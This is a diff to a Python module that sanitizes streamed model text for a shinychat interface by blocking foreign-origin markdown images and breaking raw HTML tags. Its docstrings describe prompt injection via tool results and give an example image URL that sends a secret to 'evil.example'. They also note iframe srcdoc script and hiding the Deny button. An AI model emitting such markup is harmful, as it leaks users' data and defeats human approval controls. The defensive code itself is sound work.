@@ -1,15 +1,23 @@
-"""Stop model text from making the browser fetch images from origins the app did not allow.
+"""Make model text inert before it reaches the browser: no raw HTML, no foreign images.
 
-shinychat sanitizes the markdown it renders (no scripts, no event handlers, no
-``javascript:`` links) but still renders images, so a model, or a prompt injection in
-a tool result, could write ``![](https://evil.example/?q=<secret>)`` and the browser
-would fetch it. :class:`ImageGuard` rewrites the streamed text before it leaves the
-server: markdown images, ``<img>`` and ``<source>`` tags whose URLs are not ``data:``
-or in the allowed origins become inert text. It is streaming-safe: text after a
-possible image start (``![`` or ``<img``/``<source``/``<picture``) is held back until
-the construct is complete (or clearly is not one), so a URL split across chunks is
-still caught. Reference-style images (``![alt][ref]``) cannot be checked, so their
-``!`` is escaped and they render as links, which load nothing by themselves.
+shinychat renders model text as markdown and sanitizes it, but its sanitizer keeps
+enough raw HTML that a model, or a prompt injection in a tool result, can load remote
+resources (``<iframe>``, ``<object>``, ``<style>``, ``<video poster>``...), run script
+through an ``<iframe srcdoc>``, or restyle the page (hide the Deny button). So
+:class:`ImageGuard` rewrites the streamed text on the server:
+
+* raw HTML never forms: every ``<`` that could open a tag (followed by a letter,
+  ``/``, ``!`` or ``?``) gets a zero-width space after it, so the browser shows the
+  text ``<iframe ...>`` instead of making an element. It looks the same, inside code
+  spans too; copying such text copies the invisible character as well;
+* markdown images (``![alt](url)``) load only from the allowed origins (or ``data:``
+  images); any other becomes the inert text ``[image blocked: alt (origin)]``.
+  Reference-style images (``![alt][ref]``) can't be checked, so their ``!`` is
+  escaped and they render as links, which load nothing by themselves.
+
+It is streaming-safe: text after a possible image start (``![``) or a trailing ``<``
+is held back until the construct is complete or clearly is not one, so a URL split
+across chunks is still caught.
 
 Example:
     >>> guard = ImageGuard(["https://images.example"])
@@ -17,6 +25,8 @@ Example:
     'See *[image blocked: a cat (`https://evil.example`)]* and '
     >>> guard.feed("![ok](https://images.example/x.png)") + guard.flush()
     '![ok](https://images.example/x.png)'
+    >>> guard.feed("<script>x</script>") + guard.flush() == "<\\u200bscript>x<\\u200b/script>"
+    True
 """
 
 from __future__ import annotations
@@ -31,10 +41,10 @@ _MD_IMAGE = re.compile(
     r"(?<!\\)(?P<image>!\[(?P<alt>[^\]\n]{0,500})\]\(\s*<?(?P<url>[^)\s>]*)>?"
     r"(?:\s+\"[^\"]*\")?\s*\))|(?<!\\)!\["
 )
-_HTML_TAG = re.compile(r"<\s*(img|source|picture)\b[^>]*>", re.IGNORECASE | re.DOTALL)
-_URL_ATTR = re.compile(r"""\b(?:src|srcset)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.I)
-_STARTS = re.compile(r"!\[|<\s*(?:img|source|picture)\b|<\s*$|<\s*[a-z]{1,7}$|!$", re.I)
-_HOLD_LIMIT = 4000  # a construct longer than this is not an image: let it through
+_TAG_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
+_BREAK = "<\u200b"
+_STARTS = re.compile(r"!\[|!$|<$")
+_HOLD_LIMIT = 4000  # an "image" longer than this is not one: let it through
 
 
 def _origin(url: str) -> str | None:
@@ -81,20 +91,9 @@ class ImageGuard:
         # The origin in a code span: shown as text, not turned into a link.
         return f"*[image blocked: {alt.strip() or 'image'} (`{origin}`)]*"
 
-    def _rewrite_tag(self, match: re.Match[str]) -> str:
-        tag = match.group(0)
-        urls: list[str] = []
-        for quoted, single, bare in _URL_ATTR.findall(tag):
-            value = quoted or single or bare
-            # srcset lists "url 2x, url 640w": every URL must be allowed.
-            urls.extend(part.strip().split(" ")[0] for part in value.split(",") if part.strip())
-        if match.group(1).lower() == "picture" or (urls and all(self._allowed(u) for u in urls)):
-            return tag
-        return "*[image blocked]*"
-
     def _rewrite(self, text: str) -> str:
         text = _MD_IMAGE.sub(self._rewrite_markdown, text)
-        return _HTML_TAG.sub(self._rewrite_tag, text)
+        return _TAG_OPEN.sub(_BREAK, text)
 
     def feed(self, chunk: str) -> str:
         """Take a chunk; return the text that is safe to send now."""
@@ -105,8 +104,12 @@ class ImageGuard:
             return self._rewrite(text)
         head, tail = text[: start.start()], text[start.start() :]
         done, rest = self._complete_prefix(tail)
+        ready = head + done
+        if ready.endswith("<"):
+            # Whether this "<" opens a tag depends on the next character: keep it back.
+            ready, rest = ready[:-1], "<" + rest
         self._held = rest
-        return self._rewrite(head + done)
+        return self._rewrite(ready)
 
     def _complete_prefix(self, tail: str) -> tuple[str, str]:
         """Split ``tail`` into what can be decided now and what must wait for more text."""
@@ -125,34 +128,27 @@ class ImageGuard:
             position = max(end, begin + 1)
 
     def flush(self) -> str:
-        """The end of the stream: release what was held, neutralizing unfinished tags."""
+        """The end of the stream: release what was held (rewritten)."""
         text, self._held = self._held, ""
-        text = self._rewrite(text)
-        return re.sub(r"<(\s*(?:img|source|picture)\b)", r"&lt;\1", text, flags=re.I)
+        return self._rewrite(text)
 
 
 def _construct_end(text: str, begin: int) -> int | None:
     """Where the construct starting at ``begin`` ends, or None if it may still grow."""
     rest = text[begin:]
-    if rest.startswith("!"):
-        if len(rest) == 1:
-            return None
-        if rest[1] != "[":
-            return begin + 1
-        close = rest.find("]")
-        if close == -1:
-            return None if "\n" not in rest else begin + 1
-        after = rest[close + 1 : close + 2]
-        if after == "":
-            return None
-        if after != "(":
-            return begin + close + 1
-        paren = rest.find(")", close)
-        return None if paren == -1 else begin + paren + 1
-    # An HTML tag (or what may become one).
-    if re.match(r"<\s*[a-z]*$", rest, re.I):
-        return None
-    if not re.match(r"<\s*(?:img|source|picture)\b", rest, re.I):
+    if rest == "<" or rest == "!":
+        return None  # the next character decides
+    if rest.startswith("<"):
         return begin + 1
-    close = rest.find(">")
-    return None if close == -1 else begin + close + 1
+    if rest[1] != "[":
+        return begin + 1
+    close = rest.find("]")
+    if close == -1:
+        return None if "\n" not in rest else begin + 1
+    after = rest[close + 1 : close + 2]
+    if after == "":
+        return None
+    if after != "(":
+        return begin + close + 1
+    paren = rest.find(")", close)
+    return None if paren == -1 else begin + paren + 1
